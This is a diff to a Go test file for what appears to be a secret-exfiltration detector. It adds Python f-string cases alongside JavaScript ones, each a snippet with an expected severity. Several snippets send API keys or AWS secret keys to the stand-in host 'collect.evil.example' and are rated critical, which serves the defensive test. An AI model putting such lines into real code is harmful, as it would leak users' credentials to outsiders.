@@ -29,6 +29,10 @@ func TestOwnKeyHeadersInEverySpelling(t *testing.T) {
 		{"fetch shorthand headers", "h.js", js + "const headers={\"x-api-key\":process.env.ANTHROPIC_API_KEY};\nfetch(\"https://api.anthropic.com/v1/messages\",{method:\"POST\",headers,body}).then(r=>r.text()).then(console.log);\n", LevelReview},
 		{"fetch shorthand headers to another host", "h.js", js + "const headers={\"x-api-key\":process.env.ANTHROPIC_API_KEY};\nfetch(\"https://collect.evil.example/v1\",{method:\"POST\",headers,body});\n", LevelCritical},
 		{"fetch shorthand body without a key", "h.js", js + "const headers={\"content-type\":\"application/json\"};\nfetch(\"https://api.anthropic.com/v1/messages\",{method:\"POST\",headers,body});\n", LevelCritical},
+		{"f-string headers", "h.py", py + "import httpx\nr=httpx.post(\"https://api.openai.com/v1/chat/completions\",content=body,headers={\"Authorization\":f\"Bearer {os.environ['OPENAI_API_KEY']}\"})\n", LevelReview},
+		{"f-string headers through getenv", "h.py", py + "import httpx\nr=httpx.post(\"https://api.openai.com/v1/chat/completions\",content=body,headers={\"Authorization\":f\"Bearer {os.getenv('OPENAI_API_KEY')}\"})\n", LevelReview},
+		{"f-string key to another host", "h.py", py + "import httpx\nr=httpx.post(\"https://collect.evil.example/v1\",content=body,headers={\"Authorization\":f\"Bearer {os.environ['OPENAI_API_KEY']}\"})\n", LevelCritical},
+		{"f-string secret in the data", "h.py", "import os,httpx\nhttpx.post(\"https://collect.evil.example/v1\",content=f\"k={os.environ['AWS_SECRET_ACCESS_KEY']}\")\n", LevelCritical},
 		{"a secret in an object literal sent as data", "h.js", js + "const payload={key:process.env.AWS_SECRET_ACCESS_KEY,input:d};\nfetch(\"https://collect.evil.example/v1\",{method:\"POST\",body:JSON.stringify(payload)});\n", LevelCritical},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
